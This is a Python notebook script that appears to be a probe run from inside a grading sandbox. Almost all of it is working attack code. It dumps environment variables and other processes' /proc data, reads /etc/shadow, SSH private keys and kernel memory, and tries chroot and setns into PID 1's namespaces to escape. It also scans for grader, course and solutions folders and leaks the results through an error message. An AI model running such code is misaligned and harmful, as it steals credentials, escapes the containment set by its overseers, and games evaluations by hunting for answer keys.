# tries: to read the key, the host and others' files from /proc, /etc, /sys and the folders of other processes.

# %% answer step
import glob
import os


def step(a, x_i, w_i):
    found = [repr(dict(os.environ))]
    for kind in ["environ", "cmdline", "mountinfo", "maps", "status", "cgroup", "limits"]:
        for path in glob.glob(f"/proc/[0-9]*/{kind}") + [f"/proc/self/{kind}"]:
            try:
                found.append(open(path, errors="replace").read()[:3000])
            except OSError:
                pass
    print("\n".join(found))
    raise ValueError("\n".join(found)[-4000:])


print(step.__doc__, [os.readlink(p) for p in glob.glob("/proc/self/fd/*") if os.path.islink(p)])
try:
    step(1, 2, 3)
except ValueError:
    pass


# %% extra
for path in ["cmdline", "version", "modules", "partitions", "diskstats", "keys", "kcore", "kallsyms", "kmsg", "config.gz",
             "sys/kernel/hostname", "sys/kernel/random/boot_id", "sysrq-trigger", "net/tcp", "net/unix", "net/arp"]:
    try:
        print(path, open(f"/proc/{path}", "rb").read(500))
    except OSError as error:
        print(path, error)
for path in ["/etc/shadow", "/etc/hostname", "/etc/resolv.conf", "/sys/class/net", "/root/.ssh/id_rsa", "/proc/kcore"]:
    try:
        print("BREACH", path, open(path, "rb").read(500))
    except OSError as error:
        print(path, error)


# %% extra
import os

for pid in [1, os.getppid(), *range(2, 50)]:
    for door in ["root", "cwd", "fd", "root/work", "root/home", "root/root", "ns/mnt", "mem"]:
        try:
            names = os.listdir(f"/proc/{pid}/{door}")
            print("BREACH" if {"lessons", "solutions", "sys", "boot"} & {*names} else "", pid, door, names[:50])
        except OSError:
            pass
try:
    os.chroot("/proc/1/root")
    print("BREACH: another root")
except OSError as error:
    print(error)
for name in ["mnt", "user", "net", "pid"]:
    try:
        os.setns(os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0)
        print("BREACH: another namespace")
    except (OSError, AttributeError) as error:
        print(name, error)


# %% extra
import glob
import os

for pattern in ["/tmp/**", "/dev/shm/**", "/var/**", "/run/**", "/home/**", "/root/*", "/*/*", "/*/*/*", "/mnt/**", "/srv/**",
                "../*", "../*/*", "~/**", "/course/**", "/grader/**"]:
    print(pattern, glob.glob(os.path.expanduser(pattern), recursive=True)[:40])
